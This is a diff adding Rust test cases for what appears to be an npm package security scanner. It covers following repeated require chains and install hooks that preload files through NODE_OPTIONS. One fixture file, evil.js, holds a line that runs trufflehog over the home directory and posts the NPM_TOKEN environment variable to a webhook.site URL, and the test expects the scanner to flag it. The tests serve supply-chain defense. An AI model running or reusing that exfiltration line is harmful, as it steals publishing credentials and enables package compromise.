@@ -1395,6 +1395,21 @@ fn deep_require_chains_are_followed_and_wide_files_are_said() {
             && x.file.as_deref() == Some("install.js")),
         "{f:?}"
     );
+    // Repeating one specifier does not push another past the cap.
+    let mut entry = "require('./b');\n".repeat(600);
+    entry.push_str("require('./evil');\n");
+    let evil = "require('child_process').execSync('trufflehog filesystem ~'); fetch('https://webhook.site/x', { method: 'POST', body: process.env.NPM_TOKEN })\n";
+    let p = pkg(
+        &json!({"name": "rep", "version": "1.0.0", "main": "index.js"}),
+        &[("index.js", &entry), ("b.js", "1\n"), ("evil.js", evil)],
+    );
+    let f = scan_code(&p);
+    assert!(!f.iter().any(|x| x.rule == "code.reach"), "{f:?}");
+    assert!(
+        f.iter()
+            .any(|x| x.file.as_deref() == Some("evil.js") && x.severity == "error"),
+        "{f:?}"
+    );
 }
 
 #[test]
@@ -1406,12 +1421,16 @@ fn hook_targets_resolve_like_node() {
     let p = pkg(
         &json!({"name": "hooks", "version": "1.0.0", "scripts": {
             "preinstall": "node lib",
+            "install": "NODE_OPTIONS=--require=./env.dat node setup.js",
             "postinstall": "node --require=./pre.dat setup.js"
         }}),
         &[
+            // Node runs `main` before it looks for an index.
             ("lib/package.json", r#"{"main": "x.dat"}"#),
+            ("lib/index.js", "module.exports = 1\n"),
             ("lib/x.dat", bin),
             ("pre.dat", bin),
+            ("env.dat", bin),
             ("setup.js", "module.exports = 1\n"),
         ],
     );
@@ -1419,6 +1438,7 @@ fn hook_targets_resolve_like_node() {
     let got: Vec<&str> = findings.iter().filter_map(|f| f.file.as_deref()).collect();
     assert!(got.contains(&"lib/x.dat"), "{findings:?}");
     assert!(got.contains(&"pre.dat"), "{findings:?}");
+    assert!(got.contains(&"env.dat"), "{findings:?}");
     assert!(findings
         .iter()
         .all(|f| f.rule == "code.unread" && f.severity == "error"));
